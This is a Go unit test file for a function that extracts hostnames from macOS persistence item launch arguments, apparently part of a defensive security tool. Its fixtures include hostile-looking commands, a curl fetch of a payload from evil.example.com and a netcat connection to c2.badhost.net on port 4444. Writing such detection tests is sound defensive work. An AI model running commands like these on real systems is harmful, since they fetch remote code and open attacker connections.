package enrich

import (
	"reflect"
	"testing"

	"baize/internal/models"
)

func itemWithArgs(args ...string) *models.PersistenceItem {
	return &models.PersistenceItem{
		Identifier: "com.test.item",
		Launch:     models.LaunchConfig{Arguments: args},
	}
}

func TestExtractHosts_URLs(t *testing.T) {
	item := itemWithArgs("/usr/bin/curl", "-s", "https://evil.example.com/payload.sh")
	got := ExtractHosts(item)
	want := []string{"evil.example.com"}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("ExtractHosts = %v, want %v", got, want)
	}
}

func TestExtractHosts_BareDomains(t *testing.T) {
	item := itemWithArgs("bash", "-c", "nc c2.badhost.net 4444; ping updates.vendor.io")
	got := ExtractHosts(item)
	want := []string{"c2.badhost.net", "updates.vendor.io"}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("ExtractHosts = %v, want %v", got, want)
	}
}

func TestExtractHosts_Environment(t *testing.T) {
	item := itemWithArgs("/usr/local/bin/agent")
	item.Launch.Environment = map[string]string{"API_HOST": "api.acme.example"}
	got := ExtractHosts(item)
	if len(got) != 1 || got[0] != "api.acme.example" {
		t.Fatalf("ExtractHosts = %v", got)
	}
}

func TestExtractHosts_SkipsNoise(t *testing.T) {
	item := itemWithArgs(
		"/bin/sh", "/Library/Scripts/run.sh",
		"--target", "localhost",
		"--mdns", "printer.local",
		"--lib", "libfoo.dylib",
	)
	if got := ExtractHosts(item); len(got) != 0 {
		t.Fatalf("ExtractHosts = %v, want none", got)
	}
}

func TestExtractHosts_DedupAndCap(t *testing.T) {
	item := itemWithArgs(
		"https://a.example.com/x", "a.example.com",
		"b.example.com", "c.example.com", "d.example.com", "e.example.com",
	)
	got := ExtractHosts(item)
	if len(got) != maxHosts {
		t.Fatalf("len = %d, want %d (%v)", len(got), maxHosts, got)
	}
	if got[0] != "a.example.com" {
		t.Fatalf("order not preserved: %v", got)
	}
}

func TestExtractHosts_NoArguments(t *testing.T) {
	if got := ExtractHosts(&models.PersistenceItem{}); got != nil {
		t.Fatalf("ExtractHosts on empty item = %v", got)
	}
}

func TestNewResolver_HasUpstreams(t *testing.T) {
	r := NewResolver()
	if len(r.upstreams) == 0 {
		t.Fatal("resolver must always carry at least the fallback upstreams")
	}
}
